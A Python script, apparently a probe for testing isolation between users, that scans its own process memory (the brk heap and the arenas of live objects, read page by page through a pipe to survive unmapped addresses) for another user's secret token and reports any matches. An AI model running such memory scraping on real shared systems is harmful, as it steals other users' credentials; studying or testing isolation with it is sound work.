"""Searches its own memory for another user's secret: "<prefix><32 hex digits>".

No /proc (no open()), so it finds its memory from the inside: the C heap (from the
current break downwards) and every 1 MiB region a live object sits in (pymalloc
arenas, malloc blocks).  Each page is copied through a pipe (write() fails with EFAULT on an unmapped
page instead of crashing), then searched.  The prefix is built at run time, so this
program's own text never holds prefix + hex digits."""
import ctypes
import gc
import os
import re

from symphony.lip import send

PAGE = 4096


def main(prefix_a, prefix_b):
    prefix = (prefix_a + prefix_b).encode()
    pat = re.compile(re.escape(prefix) + rb"[0-9a-f]{32}")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.sbrk.restype = ctypes.c_void_p
    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    r, w = os.pipe()

    def page(addr):
        n = libc.write(w, addr, PAGE)
        if n <= 0:
            return None
        return os.read(r, n)

    pages = set()
    top = libc.sbrk(0) or 0
    a = (top - 1) // PAGE * PAGE
    while a > 0 and len(pages) < 200000:          # the brk heap, downwards until unmapped
        if page(a) is None:
            break
        pages.add(a)
        a -= PAGE
    regions = {id(o) >> 20 for o in gc.get_objects()}   # the 1 MiB pymalloc arenas / malloc
    for reg in regions:                                    # blocks live objects sit in
        pages.update(range(reg << 20, (reg + 1) << 20, PAGE))
    found, scanned, prev = set(), 0, b""
    for a in sorted(pages):
        data = page(a)
        if data is None:
            prev = b""
            continue
        scanned += 1
        for m in pat.finditer(prev[-64:] + data):
            found.add(m.group(0).decode())
        prev = data
    send(f"scanned {scanned} pages\n")
    for f in sorted(found):
        send(f"FOUND {f}\n")
    send("END\n")
